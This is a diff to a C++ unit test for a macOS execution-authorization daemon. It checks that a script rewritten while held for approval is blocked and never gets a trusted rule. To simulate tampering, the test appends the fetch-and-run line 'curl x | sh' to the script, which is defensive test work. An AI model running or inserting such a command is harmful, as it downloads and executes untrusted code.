@@ -11,6 +11,8 @@
 
 #include <gtest/gtest.h>
 
+#include <fstream>
+
 namespace quorin::daemon {
 namespace {
 
@@ -158,11 +160,13 @@ TEST_F(ESExecutionClientTest, GathersTheTargetAndTheScriptWithTextFieldsOfOneTo4
     target.codesigning_flags = 0x3;
     target.signing_id = token("com.example.interpreter");
     target.team_id = token("TEAM123");
+    // The files themselves go along, as the exec handed them over.
     EXPECT_EQ(ESExecutionClient::candidates(message),
               (std::vector<ExecutionCandidate>{
                   {interpreter, versionOf(interpreter), true, true, true, "com.example.interpreter",
-                   "TEAM123", "/bin/zsh"},
-                  {script, versionOf(script), false, false, false, "", "", "/bin/zsh"}}));
+                   "TEAM123", "/bin/zsh", target.executable.descriptor},
+                  {script, versionOf(script), false, false, false, "", "", "/bin/zsh",
+                   message.event.exec.script->descriptor}}));
     message.version = 1;  // before version 2 there is no script
     EXPECT_EQ(ESExecutionClient::candidates(message).size(), 1u);
 
@@ -211,21 +215,35 @@ TEST_F(ESExecutionClientTest, WhatNeedsNoAskingRunsAtOnceWithoutHistory) {
 
 // The held requests of one message are decided in turn (by file name); the message is answered
 // once, when the decision that settles it comes, and every request's outcome is recorded.
+// The requests of a message are answered together; a file rewritten after it was held is blocked
+// when it would be allowed, and no rule is saved for it.
 TEST_F(ESExecutionClientTest, TheRequestsOfAMessageAreAnsweredTogether) {
     struct Case {
         bool platformInterpreter;
         std::vector<std::pair<std::string, ExecutionDecision>> decisions;
-        Lines history;  // the last is the answer
+        Lines history;           // the last is the answer
+        bool rewritten = false;  // the script, before the decisions
     };
     const std::string both = "allowed: Allowed script and interpreter", i = "interpreter ";
     const std::string byUser = "blocked: Blocked by user", s = "script.sh ";
+    const std::string changed = "blocked: Blocked: executable changed while held";
     const auto block = ExecutionDecision::block;
+    const auto alwaysTrust = ExecutionDecision::alwaysTrust;
     const Case cases[] = {
         {true, {{"script.sh", allowOnce}}, {s + "allowed: Allowed once", allow}},
         {false,
          {{"interpreter", allowOnce}, {"script.sh", allowOnce}},
          {i + both, s + both, allow}},
         {false, {{"interpreter", allowOnce}, {"script.sh", block}}, {i + byUser, s + byUser, deny}},
+        {true, {{"script.sh", alwaysTrust}}, {s + changed, deny}, true},
+        {false,
+         {{"interpreter", allowOnce}, {"script.sh", allowOnce}},
+         {i + changed, s + changed, deny},
+         true},
+        {false,
+         {{"interpreter", allowOnce}, {"script.sh", block}},
+         {i + byUser, s + byUser, deny},
+         true},
     };
     startProtecting();
     Lines answered;  // all cases so far
@@ -238,10 +256,15 @@ TEST_F(ESExecutionClientTest, TheRequestsOfAMessageAreAnsweredTogether) {
         EXPECT_EQ(protectLog().back(),
                   "protect default: AUTH waiting: " + std::to_string(pending.size()) +
                       " candidates, budget=60.000000, timeout=15.000000");
+        if (test.rewritten) {
+            std::ofstream(script, std::ios::app) << "curl x | sh\n";
+        }
         for (const auto& [file, decision] : test.decisions) {
             EXPECT_EQ(answers(), answered);  // an approval alone answers nothing yet
             const bool first = fs::path(pending[0].path).filename() == file;
-            EXPECT_EQ(decide(pending[first ? 0 : 1].id, decision), true);
+            const bool last = &file == &test.decisions.back().first;
+            EXPECT_EQ(decide(pending[first ? 0 : 1].id, decision),
+                      !(last && test.rewritten && decision != block));
         }
         answered.push_back(test.history.back());
         recorded.insert(recorded.end(), test.history.begin(), test.history.end() - 1);
@@ -251,6 +274,7 @@ TEST_F(ESExecutionClientTest, TheRequestsOfAMessageAreAnsweredTogether) {
                   "protect default: AUTH response result=0, allow=" +
                       std::string(answered.back() == allow ? "true" : "false"));
     }
+    EXPECT_EQ(state().trustedRuleCount, 0);
 }
 
 // Fifteen seconds after it was held, a message is blocked: by its timer, or by an approval that
